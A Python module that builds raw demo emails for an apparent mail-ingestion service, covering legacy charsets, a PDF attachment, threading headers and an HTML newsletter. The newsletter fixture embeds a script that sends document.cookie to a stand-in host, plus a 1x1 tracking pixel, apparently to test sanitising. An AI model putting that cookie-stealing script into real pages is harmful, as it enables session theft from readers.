"""The mails of the demo, made byte by byte as real clients send them: old charsets, a newsletter, an answer."""

from __future__ import annotations

import base64
import textwrap
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import UTC, datetime
from email import policy, utils
from email.header import Header
from email.message import EmailMessage
from email.parser import BytesParser
from typing import Final
from urllib.parse import quote

from ingestd.demo.local import AUTHSERV_ID

SUPPORT: Final = "support@example.com"
ANNA: Final = "anna@example.org"
KENJI: Final = "kenji@example.net"
PAVEL: Final = "pavel@example.org"
NEWS: Final = "news@example.net"
CUSTOMERS: Final = (ANNA, KENJI, PAVEL, NEWS)

INVOICE_NAME: Final = "Счёт № 42.pdf"
REMOTE_IMAGE: Final = "https://img.example.net/open.gif"
SCRIPT: Final = "document.location"


@dataclass(frozen=True, slots=True)
class Mail:
    """A mail and what a person must be able to read in it."""

    sender: str
    subject: str
    text: str
    message_id: str
    raw: bytes
    attachment: bytes = b""


def question() -> Mail:
    """A question in Russian, KOI8-R, unencoded eight-bit text, as mutt sends it."""
    text = "Здравствуйте!\n\nПосле обновления касса не печатает чеки.\nЧто делать?\n\n-- \nАнна Кузнецова\n"
    subject = "Касса не печатает чеки"
    message_id = _new_id(ANNA)
    head = _head("Анна Кузнецова", ANNA, subject, message_id, "koi8-r")
    raw = _joined([*head, *_text_fields("koi8-r", "8bit"), "User-Agent: Mutt/2.2.12"], text.encode("koi8-r"))
    return Mail(ANNA, subject, text, message_id, raw)


def japanese() -> Mail:
    """A question in Japanese, ISO-2022-JP, as most Japanese clients still send it."""
    text = "お世話になっております。\n\n請求書の宛名を変更したいのですが、\nどこで変更できますか。\n\n佐藤健二\n"
    subject = "請求書の宛名について"
    message_id = _new_id(KENJI)
    head = _head("佐藤健二", KENJI, subject, message_id, "iso-2022-jp")
    raw = _joined([*head, *_text_fields("iso-2022-jp", "7bit")], text.encode("iso-2022-jp"))
    return Mail(KENJI, subject, text, message_id, raw)


def invoice() -> Mail:
    """A mail in windows-1251 with a PDF whose name is Russian, as Outlook sends it."""
    text = "Добрый день,\n\nсчёт во вложении. Когда ждать оплату?\n\nПавел Орлов\n"
    subject = "Счёт за ноябрь"
    message_id = _new_id(PAVEL)
    content = pdf("Invoice 42")
    head = _head("Павел Орлов", PAVEL, subject, message_id, "windows-1251")
    boundary = "----=_NextPart_000_0001_01DC5C00.00000042"
    body = _multipart(
        boundary,
        (_text_fields("windows-1251", "base64"), _base64(text.encode("windows-1251"))),
        (_file_fields("application/pdf", INVOICE_NAME), _base64(content)),
    )
    raw = _joined([*head, f'Content-Type: multipart/mixed;\r\n\tboundary="{boundary}"'], body)
    return Mail(PAVEL, subject, text, message_id, raw, content)


def newsletter() -> Mail:
    """A newsletter: HTML with a picture that would report the reader, and a script."""
    subject = "Новости недели"
    message_id = _new_id(NEWS)
    text = "Скидка 20 % на бумагу для касс"
    html = (
        f"<html><head><script>{SCRIPT}='https://example.net/?'+document.cookie</script></head><body>"
        f'<h1>{text}</h1><p onclick="{SCRIPT}=1">Только до пятницы.</p>'
        f'<img src="{REMOTE_IMAGE}?reader=support" width="1" height="1"></body></html>\n'
    )
    head = _head("Новости", NEWS, subject, message_id, "utf-8")
    listed = ["List-Id: <news.example.net>", "List-Unsubscribe: <https://example.net/leave>"]
    raw = _joined([*head, *listed, *_text_fields("utf-8", "base64", kind="html")], _base64(html.encode()))
    return Mail(NEWS, subject, text, message_id, raw)


def answer_to(received: bytes, text: str) -> Mail:
    """Anna's answer to a mail that she got: it quotes it, and names it in In-Reply-To and References."""
    got = read(received)
    quoted = textwrap.indent(body_text(got).rstrip(), "> ", lambda _: True)
    whole = f"{text}\n\n{datetime.now(UTC):%d.%m.%Y %H:%M}, {SUPPORT} пишет:\n{quoted}\n"
    message_id, parent = _new_id(ANNA), str(got["Message-ID"])
    subject = str(got["Subject"])
    references = f"{got['References']}\r\n {parent}" if got["References"] else parent
    head = _head("Анна Кузнецова", ANNA, subject, message_id, "utf-8")
    thread = [f"In-Reply-To: {parent}", f"References: {references}"]
    raw = _joined([*head, *thread, *_text_fields("utf-8", "base64")], _base64(whole.encode()))
    return Mail(ANNA, subject, text, message_id, raw)


def read(raw: bytes) -> EmailMessage:
    """Read a mail as a customer's mail program does."""
    return BytesParser(policy=policy.default).parsebytes(raw)


def body_text(mail: EmailMessage) -> str:
    """Return a mail's plain text, "" where it has none."""
    part = mail.get_body(("plain",))
    return str(part.get_content()) if part is not None else ""


def files_of(mail: EmailMessage) -> list[tuple[str, bytes]]:
    """Return the attachments: name and bytes."""
    return [(part.get_filename() or "", part.get_payload(decode=True)) for part in mail.iter_attachments()]  # type: ignore[misc]


def pdf(title: str) -> bytes:
    """Return a small PDF with one empty page."""
    objects = (
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        b"<< /Title (%s) >>" % title.encode(),
    )
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    places = []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R /Info 4 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, table)
    return bytes(out)


def _head(name: str, address: str, subject: str, message_id: str, charset: str) -> list[str]:
    """Return the header lines that every mail has, with those that the receiving server adds on top."""
    domain = address.partition("@")[2]
    return [
        f"Return-Path: <{address}>",
        f"Delivered-To: {SUPPORT}",
        f"Authentication-Results: {AUTHSERV_ID};\r\n\tdmarc=pass header.from={domain}",
        f"Date: {utils.format_datetime(datetime.now(UTC))}",
        f"From: {_words(name, charset)} <{address}>",
        f"To: {SUPPORT}",
        f"Subject: {_words(subject, charset)}",
        f"Message-ID: {message_id}",
        "MIME-Version: 1.0",
    ]


def _new_id(address: str) -> str:
    return utils.make_msgid(domain=address.partition("@")[2])


def _words(text: str, charset: str) -> str:
    """Return encoded words (RFC 2047)."""
    return Header(text, charset).encode(linesep="\r\n")


def _text_fields(charset: str, encoding: str, *, kind: str = "plain") -> list[str]:
    return [f"Content-Type: text/{kind}; charset={charset}", f"Content-Transfer-Encoding: {encoding}"]


def _file_fields(content_type: str, name: str) -> list[str]:
    # Both ways at once, as Outlook: encoded words for the old, RFC 2231 for the others.
    return [
        f'Content-Type: {content_type};\r\n\tname="{_words(name, "utf-8")}"',
        f"Content-Disposition: attachment;\r\n\tfilename*=utf-8''{quote(name)}",
        "Content-Transfer-Encoding: base64",
    ]


def _base64(content: bytes) -> bytes:
    return base64.encodebytes(content)


def _multipart(boundary: str, *parts: tuple[Sequence[str], bytes]) -> bytes:
    opened = b"".join(f"--{boundary}\r\n".encode() + _joined(fields, body) + b"\r\n" for fields, body in parts)
    return opened + f"--{boundary}--\r\n".encode()


def _joined(fields: Sequence[str], body: bytes) -> bytes:
    lines = body.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    return "".join(f"{one}\r\n" for one in fields).encode("ascii") + b"\r\n" + lines
